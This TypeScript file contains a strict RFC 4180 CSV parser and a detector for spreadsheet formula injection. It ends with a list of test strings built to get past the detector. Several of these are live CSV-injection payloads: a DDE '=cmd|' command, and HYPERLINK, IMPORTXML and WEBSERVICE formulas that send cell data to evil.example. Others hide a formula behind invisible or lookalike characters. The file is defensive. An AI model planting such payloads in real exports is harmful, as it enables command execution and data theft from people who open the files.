/**
 * A strict reader of RFC 4180: CRLF after every line, quotes only around whole cells, doubled inside,
 * as many cells in each line. Throws for everything else.
 */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let at = 0
  while (at < text.length) {
    const { cell, next } = text[at] === '"' ? quoted(text, at) : bare(text, at)
    row.push(cell)
    at = next
    if (text[at] === ',') {
      at += 1
      if (at === text.length) throw new Error('the last line has no end')
    } else if (text.startsWith('\r\n', at)) {
      at += 2
      rows.push(row)
      row = []
    } else throw new Error(`neither a comma nor CRLF at ${at}`)
  }
  if (row.length > 0) throw new Error('the last line has no end')
  if (new Set(rows.map(({ length }) => length)).size > 1) throw new Error('not rectangular')
  return rows
}

function quoted(text: string, from: number): { cell: string; next: number } {
  let cell = ''
  for (let at = from + 1; at < text.length; at++) {
    if (text[at] !== '"') cell += text[at]
    else if (text[at + 1] === '"') {
      cell += '"'
      at += 1
    } else return { cell, next: at + 1 }
  }
  throw new Error(`the quote at ${from} does not end`)
}

function bare(text: string, from: number): { cell: string; next: number } {
  const [cell = ''] = /^[^",\r\n]*/.exec(text.slice(from)) ?? []
  if (/^\s|\s$/.test(cell)) throw new Error(`blanks around the bare cell at ${from}`)
  return { cell, next: from + cell.length }
}

/** Rows of a table as objects. */
export function readTable(text: string): Record<string, string>[] {
  const [columns = [], ...rows] = parseCsv(text)
  return rows.map((row) => Object.fromEntries(columns.map((name, i) => [name, row[i] ?? ''])))
}

/**
 * The formulas that a spreadsheet would run after a split at semicolons, tabs and line ends; empty
 * if none.
 */
export function formulasIn(cell: string): string[] {
  const pieces = cell.split(/[;\t\r\n]/)
  return pieces.filter((piece, i) => {
    const seen = piece.replace(
      /^(?:[\s"\p{Cc}\p{Cf}\u2800\uFFFD]|\u034F|\u115F|\u1160|\u3164|\uFFA0|[\uFE00-\uFE0F])+/u,
      '',
    )
    const starters = i === 0 ? /^[=+\-@|%＝＋－＠﹦﹢﹣﹫−｜％]/ : /^[=+\-@＝＋－＠﹦﹢﹣﹫−]/
    return starters.test(seen)
  })
}

/** Texts that make spreadsheets calculate, call out, or hide what they do. */
export const FORMULAS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("http://evil.example/?"&A1,"see")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example/"&A2)',
  '@=1',
  '|calc',
  '%0A=1',
  ' =1',
  '   +1',
  '\t=1',
  '\t',
  '\r=1',
  '\n=1',
  '\r\n=1',
  '\n',
  ' \t =1',
  '\u00A0=1',
  '\u3000=1',
  '\u2003-1',
  '\u200B=1',
  '\u200D\u200C=1',
  '\uFEFF=1',
  '\u00AD=1',
  '\u202E=1',
  '\u2066=1',
  '\u180E=1',
  '\u3164=1',
  '\u2800=1',
  '\u034F=1',
  '\u0000=1',
  '\u0001\u0002+1',
  '\u007F=1',
  '\u0085@1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1',
  '−1',
  'harmless;=1',
  'harmless; =1',
  'harmless;"=1',
  `harmless;'"=1`,
  'harmless;\u200B=1',
  'harmless\t=1',
  'harmless\r\n=1',
  'harmless\n+1',
  'harmless;;;@1',
  'a";=1;"',
  '";=1',
  '","=1","',
  ';=1',
  ';＝1',
  '\uD800=1',
  '=\uDFFF1',
  "'=1",
  '=1;=1;=1',
]
